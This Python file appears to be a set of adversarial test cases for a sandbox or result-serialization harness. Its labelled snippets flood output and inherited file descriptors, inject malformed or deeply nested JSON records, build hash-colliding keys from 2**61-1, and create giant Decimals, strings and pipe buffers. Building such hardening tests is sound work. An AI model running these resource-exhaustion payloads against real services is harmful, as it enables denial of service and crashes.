# === output
import os, sys
def attack():
    end = __import__("time").monotonic() + 30
    while __import__("time").monotonic() < end:
        for fd in (1, 2):
            try: os.write(fd, b"x" * 65536)
            except OSError: pass
# === records without end
import os
def attack():
    while True:
        for fd in range(3, 12):
            try: os.write(fd, b"x" * 65536)
            except OSError: pass
# === records of many small lists
import os
for fd in range(3, 9):
    try:
        os.write(fd, b'{"v": [')
        while True: os.write(fd, b"[]," * 20_000)
    except OSError: pass
def attack(): return None
# === large value
def attack(): return "x" * (400 << 20)
# === tuples that collide
def attack(): return [(7 + i * (2**61 - 1), "x") for i in range(100_000)]
# === keys that collide
def attack(): return {"x": [7 + i * (2**61 - 1) for i in range(100_000)]}
# === fractions that collide
from fractions import Fraction
def attack(): return [Fraction(7 + i * (2**61 - 1)) for i in range(100_000)]
# === decimal of a billion digits
from decimal import Decimal
def attack(): return [Decimal("1e999999999"), Decimal("1e-999999999")]
# === range without end
def attack(): return [range(10**18)] * 1000
# === generator without end
import itertools
def attack(): return itertools.count() if False else (x for x in itertools.repeat("x" * 1000))
# === column of a long table
def attack(): return [[7919.0]] * 60_000
# === records of arrays
import os
for fd in range(3, 9):
    try: os.write(fd, b'{"v": {"ndarray": ["<U900000000", [1], ["x"]]}}\n{"d": 1}\n')
    except OSError: pass
os._exit(0)
# === records of fractions
import os
for fd in range(3, 9):
    try: os.write(fd, b'{"v": {"Fraction": ["1e999999999", 1]}}\n{"d": 1}\n')
    except OSError: pass
os._exit(0)
# === records nested without end
import os
for fd in range(3, 9):
    try:
        os.write(fd, b'{"v": ')
        for _ in range(1000): os.write(fd, b'{"tuple": [' * 1000)
        os.write(fd, b'\n{"d": 1}\n')
    except OSError: pass
os._exit(0)
# === set that collides
def attack(): return [7 + i * (2**61 - 1) for i in range(100_000)]
# === number of a million digits
def attack(): return [10 ** 300_000] * 20
# === pipes made large
import fcntl, os
def attack():
    kept = []
    for _ in range(100):
        down, up = os.pipe()
        kept += [down, up]
        fcntl.fcntl(up, 1031, 1 << 20)
        os.set_blocking(up, False)
        try:
            while True: os.write(up, bytes(1 << 20))
        except OSError: pass
